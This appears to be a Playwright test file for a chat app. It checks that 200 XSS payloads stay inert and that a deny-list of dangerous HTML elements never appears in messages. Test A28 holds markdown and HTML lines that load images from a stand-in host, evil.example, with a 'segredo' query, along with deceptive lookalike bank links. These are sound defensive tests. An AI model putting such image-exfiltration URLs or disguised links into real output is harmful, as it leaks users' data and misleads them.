import type { Page } from '@playwright/test'
import {
  chatIdOf,
  expect,
  messagesOf,
  openNewChat,
  repliesOf,
  replyEnded,
  say,
  test,
} from './helpers/fixtures.ts'
import { envelope, messageOf } from './helpers/stub-responses.ts'
import { XSS_CORPUS } from './helpers/xss-corpus.ts'

/** Elements that a message may not contain. */
const FORBIDDEN = [
  'script, style, link, meta, base, iframe, object, embed, form, template, video, audio, marquee, select, math',
  'svg script, svg animate, svg set, svg use, svg image, svg foreignObject, svg style, svg a, dialog, slot',
  'textarea, details, picture, source, [background], [popover], [contenteditable], [autofocus]',
  'img:not([src^="/agents/"]), input:not([type="checkbox"]), [style*="url"], [srcset], [id]',
  'a:not([href^="http://"]):not([href^="https://"]):not([href^="mailto:"])',
  'a:not([rel="noopener noreferrer nofollow"]), a:not([target="_blank"])',
].join(', ')

const PER_REPLY = 20

/**
 * Watches every element that appears in a message, however briefly: partial syntax creates transient ones.
 */
async function watchMessages(page: Page) {
  await page.addInitScript((forbidden) => {
    const report = (text: string) => {
      const call: unknown = Reflect.get(window, 'reportOffence')
      if (typeof call === 'function') call(text)
    }
    const look = (element: Element) => {
      if (!element.closest('[aria-label="Mensagens"] article')) return
      const handler = element.getAttributeNames().some((name) => name.startsWith('on'))
      if (handler || element.matches(forbidden)) report(`element: ${element.outerHTML.slice(0, 200)}`)
    }
    const lookInside = (node: Node) => {
      if (!(node instanceof Element)) return
      look(node)
      node.querySelectorAll('*').forEach(look)
    }
    new MutationObserver((records) => {
      for (const { type, target, addedNodes } of records) {
        if (type === 'attributes') look(target as Element)
        else addedNodes.forEach(lookInside)
      }
    }).observe(document, { subtree: true, childList: true, attributes: true })
  }, FORBIDDEN)
}

test('A27 XSS: 200 hostile texts are inert as stored messages of either sender', async ({
  page,
  server,
  offences,
}) => {
  expect(new Set(XSS_CORPUS).size).toBeGreaterThanOrEqual(200)
  await watchMessages(page)
  await openNewChat(page, server.url)
  await say(page, 'Oi')
  await replyEnded(page)
  const chatUrl = page.url()
  const chatId = chatIdOf(page)
  const messages = XSS_CORPUS.flatMap((text) => [
    messageOf(chatId, 'human', text),
    messageOf(chatId, 'ai', text),
  ])
  await page.route(`**/api/v1/chats/${chatId}/messages`, (route) =>
    route.fulfill({ json: envelope(messages) }),
  )
  await page.reload()
  await expect(repliesOf(page)).toHaveCount(XSS_CORPUS.length)
  await expect(messagesOf(page)).toHaveCount(XSS_CORPUS.length)
  expect(await messagesOf(page).locator('p:not([role])').allTextContents()).toEqual([...XSS_CORPUS])
  expect(page.url()).toBe(chatUrl)
  expect(offences).toEqual([])
})

test('A27 XSS: 200 hostile texts are inert while sent and streamed, and after a reload', async ({
  page,
  server,
  offences,
}) => {
  await watchMessages(page)
  await openNewChat(page, server.url)
  const replies: string[] = []
  for (let from = 0; from < XSS_CORPUS.length; from += PER_REPLY) {
    // The composer drops NUL; every other character must return from the model as typed.
    const text = XSS_CORPUS.slice(from, from + PER_REPLY)
      .join('\n\n')
      .replaceAll('\0', '')
    await say(page, `${text}\n\nFim da parte ${from}.\n\n[[echo size=9 delay=1]]`)
    await expect(repliesOf(page).last()).toContainText(`Fim da parte ${from}.`, { timeout: 40_000 })
    await replyEnded(page)
    await expect(repliesOf(page)).toHaveCount(replies.length + 1)
    replies.push((await repliesOf(page).last().textContent()) ?? '')
  }
  const chatUrl = page.url()
  expect(offences).toEqual([])
  await page.reload()
  await expect(repliesOf(page)).toHaveCount(replies.length)
  expect(await repliesOf(page).allTextContents()).toEqual(replies)
  expect(page.url()).toBe(chatUrl)
  expect(offences).toEqual([])
})

test('A28 images of other hosts are not loaded, and a link shows its target', async ({
  page,
  server,
  offences,
}) => {
  const outside = [
    ['![](https://evil.example/?q=segredo)', 'evil.example'],
    ['![gráfico de vendas](https://evil.example/b.gif?q=segredo)', '(evil.example)'],
    ['![a][ref]', '(ref.example)'],
    ['[![x](https://evil.example/b.gif)](https://outro.example/a)', '(outro.example)'],
    ['<img src="https://evil.example/b.gif">', '<img src="https://evil.example/b.gif">'],
    ['[seu banco](https://evil.example/entrar)', '(evil.example)'],
    ['[https://banco.example](https://evil.example)', '(evil.example)'],
    ['[https://banco.example@evil.example](https://banco.example@evil.example)', '(evil.example)'],
    ['[banco.example](http://banco.example.evil.example)', '(banco.example.evil.example)'],
    ['[escreva](mailto:golpe@evil.example?subject=oi)', '(golpe@evil.example)'],
  ] as const
  await watchMessages(page)
  await openNewChat(page, server.url)
  const text = outside.map(([markdown]) => markdown).join('\n\n')
  await say(page, `${text}\n\n[ref]: https://ref.example/c.png\n\nFim da lista.\n\n[[echo size=3 delay=1]]`)
  const reply = repliesOf(page).last()
  for (const when of ['live', 'after a reload']) {
    await expect(reply, when).toContainText('Fim da lista.')
    await replyEnded(page)
    const paragraphs = reply.locator('p')
    for (const [index, [, shown]] of outside.entries()) {
      await expect(paragraphs.nth(index), when).toContainText(shown)
    }
    await expect(reply.locator('img:not([src^="/agents/"])'), when).toHaveCount(0)
    expect(offences, when).toEqual([])
    await page.reload()
  }
})
